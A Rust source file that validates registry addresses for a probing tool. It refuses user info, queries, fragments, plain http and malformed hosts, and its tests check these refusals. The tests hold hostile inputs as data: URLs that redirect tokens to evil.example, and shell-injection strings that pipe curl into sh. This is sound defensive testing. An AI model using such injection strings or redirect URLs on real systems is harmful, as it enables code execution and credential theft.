//! What the person typed as a registry → the origin the probes call. Anything that is not a plain
//! scheme, host and port is refused with the reason: user info, a query or a fragment could hide
//! where a secret really goes. A path is dropped, and said so.

use crate::values::{self, is_azure_registry_host, is_host, is_loopback, split_port};
use crate::Lang;
use crate::{tr, trf};

/// A registry to probe.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// `https://myreg.azurecr.io` or `http://127.0.0.1:5000`: scheme, host and port, no path.
    pub origin: String,
    /// The host name or address, without port.
    pub host: String,
    /// The registry's name for commands (`myreg`), when the host is an Azure login server.
    pub name: Option<String>,
    /// Why DNS is skipped, when the host is an address or localhost.
    pub skip_dns: Option<SkipDns>,
    /// A path typed after the host (`/v2/`), which the probes do not use.
    pub dropped_path: Option<String>,
    /// An https origin under Azure's registry domains: secrets may go there without asking.
    pub azure: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SkipDns {
    Address,
    Localhost,
}

/// Why the registry field cannot be probed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TargetError {
    Empty,
    /// A scheme other than http or https.
    Scheme(String),
    /// `user@host`: the part before `@` is not where the request goes.
    UserInfo,
    /// `?…` after the host.
    Query,
    /// `#…` after the host.
    Fragment,
    /// Characters a host name cannot hold.
    Host(String),
    /// A port that is not 1 to 65535.
    Port(String),
    /// `http://` to a host other than this machine: tokens would cross the network in clear.
    PlainHttp(String),
}

impl TargetError {
    /// Why, in the person's language. The host is shown only when it is printable.
    pub fn text(&self, lang: Lang) -> String {
        match self {
            TargetError::Empty => tr!(lang, "Type a registry: myreg, myreg.azurecr.io or a full URL.", "Saisissez un registre : myreg, myreg.azurecr.io ou une URL complète.")
            .to_owned(),
            TargetError::Scheme(s) => trf!(lang, "Only https:// registries can be probed, not {}://.", printable(s); "Seuls les registres https:// peuvent être vérifiés, pas {}://.", printable(s)),
            TargetError::UserInfo => tr!(lang, "Refused: the address holds an @. Whatever stands before it is not the registry, and a link can use it to send your token elsewhere. Type the registry's host only; credentials go in their own fields.", "Refusé : l’adresse contient un @. Ce qui le précède n’est pas le registre, et un lien peut s’en servir pour envoyer votre jeton ailleurs. Saisissez seulement l’hôte du registre ; les identifiants vont dans leurs champs.")
            .to_owned(),
            TargetError::Query => tr!(lang, "Refused: the address holds a query (?…). Type the registry's host only.", "Refusé : l’adresse contient une requête (?…). Saisissez seulement l’hôte du registre.")
            .to_owned(),
            TargetError::Fragment => tr!(lang, "Refused: the address holds a fragment (#…). Type the registry's host only.", "Refusé : l’adresse contient un fragment (#…). Saisissez seulement l’hôte du registre.")
            .to_owned(),
            TargetError::Host(h) => trf!(lang, "Refused: “{}” is not a host name (letters, digits, dots and hyphens) or an IP address.", printable(h); "Refusé : « {} » n’est ni un nom d’hôte (lettres, chiffres, points et tirets) ni une adresse IP.", printable(h)),
            TargetError::Port(p) => trf!(lang, "Refused: “{}” is not a port (1 to 65535).", printable(p); "Refusé : « {} » n’est pas un port (1 à 65535).", printable(p)),
            TargetError::PlainHttp(h) => trf!(lang, "Refused: http:// would send your credentials in clear. Use https://{} (plain http is allowed only for this machine: localhost, 127.0.0.1).", printable(h); "Refusé : http:// enverrait vos identifiants en clair. Utilisez https://{} (http n’est permis que pour cette machine : localhost, 127.0.0.1).", printable(h)),
        }
    }
}

/// At most 60 visible characters, control characters shown as `?`.
fn printable(s: &str) -> String {
    let mut out: String = s
        .chars()
        .take(60)
        .map(|c| if c.is_control() { '?' } else { c })
        .collect();
    if s.chars().count() > 60 {
        out.push('…');
    }
    out
}

pub fn parse_target(input: &str) -> Result<Target, TargetError> {
    let input = input.trim();
    if input.is_empty() {
        return Err(TargetError::Empty);
    }
    let (scheme, rest) = match input.split_once("://") {
        Some((s, rest)) => {
            let s = s.to_ascii_lowercase();
            if s != "http" && s != "https" {
                return Err(TargetError::Scheme(s));
            }
            (s, rest)
        }
        None => ("https".to_owned(), input),
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(end);
    // `user@host`: refused whole, never "fixed" by dropping the user part.
    if authority.contains('@') {
        return Err(TargetError::UserInfo);
    }
    if tail.contains('?') {
        return Err(TargetError::Query);
    }
    if tail.contains('#') {
        return Err(TargetError::Fragment);
    }
    let path = tail.trim_end_matches('/');
    if let Some(bad) = path.chars().find(|c| c.is_whitespace() || c.is_control()) {
        return Err(TargetError::Host(bad.to_string()));
    }
    let authority = authority.to_ascii_lowercase();
    let (host, port) = split_port(&authority);
    if !is_host(host) {
        return Err(TargetError::Host(host.to_owned()));
    }
    if let Some(p) = port {
        if !values::is_port(p) {
            return Err(TargetError::Port(p.to_owned()));
        }
    }
    // A bare registry name means the public cloud's login server.
    let host = if !host.contains('.') && !host.starts_with('[') && host != "localhost" {
        format!("{host}.azurecr.io")
    } else {
        host.to_owned()
    };
    if scheme == "http" && !is_loopback(&host) {
        return Err(TargetError::PlainHttp(authority));
    }
    let skip_dns = if host == "localhost" {
        Some(SkipDns::Localhost)
    } else if values::is_ip(&host) {
        Some(SkipDns::Address)
    } else {
        None
    };
    let azure = scheme == "https" && is_azure_registry_host(&host);
    let name = azure
        .then(|| crate::values::registry_name_of(&host))
        .flatten();
    let origin = match port {
        Some(p) => format!("{scheme}://{host}:{p}"),
        None => format!("{scheme}://{host}"),
    };
    Ok(Target {
        origin,
        host,
        name,
        skip_dns,
        dropped_path: (!path.is_empty()).then(|| path.to_owned()),
        azure,
    })
}
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_way_a_registry_is_typed() {
        let t = parse_target("MyReg").expect("name");
        assert_eq!(t.origin, "https://myreg.azurecr.io");
        assert_eq!(t.name.as_deref(), Some("myreg"));
        assert!(t.azure);
        assert_eq!(
            parse_target("x.azurecr.cn").expect("cn").origin,
            "https://x.azurecr.cn"
        );
        let t = parse_target(" https://x.azurecr.us/v2/ ").expect("url");
        assert_eq!(t.origin, "https://x.azurecr.us");
        assert_eq!(t.dropped_path.as_deref(), Some("/v2"));
        let t = parse_target("http://127.0.0.1:5000/v2/").expect("ip");
        assert_eq!(t.origin, "http://127.0.0.1:5000");
        assert_eq!(t.skip_dns, Some(SkipDns::Address));
        assert_eq!(t.name, None);
        assert!(!t.azure);
        assert_eq!(
            parse_target("http://localhost:8080").expect("lh").skip_dns,
            Some(SkipDns::Localhost)
        );
        assert_eq!(
            parse_target("[::1]:5000").expect("v6").origin,
            "https://[::1]:5000"
        );
        assert!(
            !parse_target("https://proxy.example.com")
                .expect("proxy")
                .azure
        );
    }

    #[test]
    fn what_cannot_be_probed_says_why() {
        assert_eq!(
            parse_target("  ").expect_err("empty").text(Lang::En),
            "Type a registry: myreg, myreg.azurecr.io or a full URL."
        );
        assert_eq!(
            parse_target("ftp://x").expect_err("ftp"),
            TargetError::Scheme("ftp".into())
        );
        assert!(matches!(
            parse_target("bad host!"),
            Err(TargetError::Host(_))
        ));
        assert_eq!(
            parse_target("x.io:99999"),
            Err(TargetError::Port("99999".into()))
        );
    }

    #[test]
    fn a_link_cannot_hide_where_the_token_goes() {
        for hostile in [
            "http://contoso.azurecr.io@127.0.0.1:5101",
            "https://user:pw@proxy.example.com/x",
            "contoso.azurecr.io@evil.example",
        ] {
            assert_eq!(
                parse_target(hostile),
                Err(TargetError::UserInfo),
                "{hostile}"
            );
        }
        assert_eq!(parse_target("r.azurecr.io/?x=1"), Err(TargetError::Query));
        assert_eq!(
            parse_target("r.azurecr.io#frag"),
            Err(TargetError::Fragment)
        );
        assert_eq!(parse_target("r.azurecr.io?x"), Err(TargetError::Query));
        assert!(parse_target("x.io;curl${IFS}evil|sh;#.azurecr.io").is_err());
        assert!(matches!(
            parse_target("x.io;curl${IFS}evil.azurecr.io"),
            Err(TargetError::Host(_))
        ));
        assert!(matches!(
            parse_target("http://r.azurecr.io"),
            Err(TargetError::PlainHttp(_))
        ));
        // Look-alikes are not Azure: no secret without the person's say-so.
        for lookalike in ["r.azurecr.io.evil.example", "r-azurecr.io", "azurecr.io"] {
            assert!(
                !parse_target(lookalike).is_ok_and(|t| t.azure),
                "{lookalike}"
            );
        }
    }

    #[test]
    fn errors_speak_french_too() {
        assert!(TargetError::UserInfo.text(Lang::Fr).starts_with("Refusé"));
        assert!(TargetError::Host("a\u{7}b".into())
            .text(Lang::En)
            .contains("a?b"));
    }
}
